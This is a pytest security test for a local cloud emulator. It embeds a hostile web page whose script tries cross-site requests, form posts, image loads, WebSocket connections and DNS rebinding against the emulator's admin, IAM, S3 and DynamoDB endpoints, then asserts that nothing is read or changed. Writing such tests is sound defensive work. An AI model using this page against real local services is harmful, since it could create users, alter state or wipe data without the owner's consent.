"""The local cloud answers its owner alone: a web page in a real browser tries, and changes nothing."""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

import localcloud
from tests.drills import browser
from tests.localcloud.conftest import Clients

SIGNED = "X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=test/20260101/us-east-1/{}/aws4_request"
# A page of the web on the machine of somebody whose local cloud listens at CLOUD. `test` is a key that everybody knows.
PAGE = """<!doctype html><title>an innocent page</title>
<body>
<script>
const cloud = "CLOUD", rebound = "REBOUND", read = {}
const signed = (service) => "SIGNED".replace("{}", service)
const lag = (seconds) => JSON.stringify({kind: "lag", seconds})
async function attempt(name, address, options) {
  try {
    const answer = await fetch(address, options)
    read[name] = answer.type === "opaque" ? "sent" : await answer.text()
  } catch (error) { read[name] = "" }
}
function submit(action, type, name, value) {
  const frame = document.createElement("iframe")
  const form = document.createElement("form")
  frame.name = form.target = "frame" + document.forms.length
  Object.assign(form, {action, method: "post", enctype: type})
  const field = document.createElement("input")
  Object.assign(field, {name, value, type: "hidden"})
  form.append(field); document.body.append(frame, form)
  const loaded = new Promise((resolve) => frame.addEventListener("load", resolve))
  form.submit()
  return Promise.race([loaded, new Promise((resolve) => setTimeout(resolve, 1500))])
}
function look(address) {
  const image = new Image()
  return new Promise((resolve) => { image.onload = image.onerror = resolve; image.src = address })
}
function connect(address) {
  return new Promise((resolve) => {
    const socket = new WebSocket(address)
    socket.onopen = () => resolve("open"); socket.onerror = () => resolve("")
  })
}
async function attack() {
  const plain = {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}}
  const target = (name) => ({"Content-Type": "application/x-amz-json-1.0", "X-Amz-Target": "DynamoDB_20120810." + name})
  await Promise.all([
    attempt("fault", cloud + "/_localcloud/faults", {...plain, body: lag(0.001)}),
    submit(cloud + "/_localcloud/faults", "text/plain", '{"kind":"lag","seconds":0.002,"id":"', '"}'),
    attempt("clear", cloud + "/_localcloud/faults", {method: "DELETE"}),
    attempt("lags", cloud + "/_localcloud/lags", {method: "PUT", body: '{"roles": 77}'}),
    attempt("processor", cloud + "/_localcloud/processor/admin", {method: "PUT", body: '{"secret": "stolen"}'}),
    attempt("decisions", cloud + "/_localcloud/decisions", {}),
    attempt("config", cloud + "/_ministack/config", {...plain, body: "{}"}),
    attempt("queues", cloud + "/_ministack/sqs/messages", {}),
    attempt("users", cloud + "/?Action=ListUsers&" + signed("iam"), {}),
    attempt("tables", cloud + "/?" + signed("dynamodb"), {method: "POST", headers: target("ListTables"), body: "{}"}),
    attempt("bucket", cloud + "/page-bucket?" + signed("s3"), {method: "PUT"}),
    attempt("payment", cloud + "/_localcloud/api/us-east-1/11111111/prod/payments", {...plain, body: "{}"}),
    submit(cloud + "/?Action=CreateUser&UserName=by-form&" + signed("iam"), "text/plain", "a", "b"),
    look(cloud + "/?Action=CreateUser&UserName=by-image&" + signed("iam")),
    look(rebound + "/?Action=CreateUser&UserName=by-name&" + signed("iam")),
    connect(cloud.replace("http", "ws") + "/_localcloud/faults").then((state) => { read.socket = state }),
  ])
  await attempt("reset", cloud + "/_ministack/reset", {...plain, body: ""})
  await fetch("/done", {method: "POST", body: JSON.stringify(read)})
}
attack()
</script>
<img src="/wait">
"""


class Site(ThreadingHTTPServer):
    """The page's own server: it keeps the page loading until its script has told what it could read."""

    daemon_threads = True

    def __init__(self, page: str) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.page, self.read, self.done = page, "", threading.Event()


class Handler(BaseHTTPRequestHandler):
    server: Site

    def do_GET(self) -> None:
        if self.path == "/wait":
            self.server.done.wait(20)
        self._answer(self.server.page if self.path == "/" else "")

    def do_POST(self) -> None:
        self.server.read = self.rfile.read(int(self.headers["Content-Length"])).decode()
        self._answer("")
        self.server.done.set()

    def _answer(self, text: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(text.encode())

    def log_message(self, *arguments: Any) -> None:
        del arguments


@contextmanager
def serving(page: str) -> Iterator[Site]:
    with Site(page) as site:
        threading.Thread(target=site.serve_forever, daemon=True).start()
        yield site
        site.shutdown()


@pytest.mark.parametrize("host", ["127.0.0.1", "evil.example"])
def test_a_page_in_a_browser_reads_nothing_and_changes_nothing(
    host: str, cloud: localcloud.LocalCloud, client: Clients, tmp_path: Path
) -> None:
    """By fetch, form, image, WebSocket and a name of its own bound to loopback; against the admin endpoints, the
    emulator's, services that it signs for, and the API. From another port, and from another site."""
    if not (chromium := browser.found()):
        pytest.skip("no Chromium on this machine")

    def state() -> dict[str, Any]:
        own = {path: cloud.admin("GET", path) for path in ("/faults", "/lags", "/processor/admin")}
        users = [user["UserName"] for user in client("iam").list_users()["Users"]]
        return own | {"users": users, "buckets": client("s3").list_buckets()["Buckets"]}

    client("iam").create_user(UserName=f"owner-{host}")
    before = state()
    page = PAGE.replace("SIGNED", SIGNED).replace("CLOUD", cloud.endpoint)
    with serving(page.replace("REBOUND", f"http://rebound.example:{cloud.port}")) as site:
        names = "--host-resolver-rules=MAP *.example 127.0.0.1"
        browser.load(chromium, f"http://{host}:{site.server_port}/", tmp_path, names)
    assert site.read, "the page did not run"
    answers = {name: text for name, text in json.loads(site.read).items() if text not in ("", "sent")}
    assert answers == {}
    assert state() == before
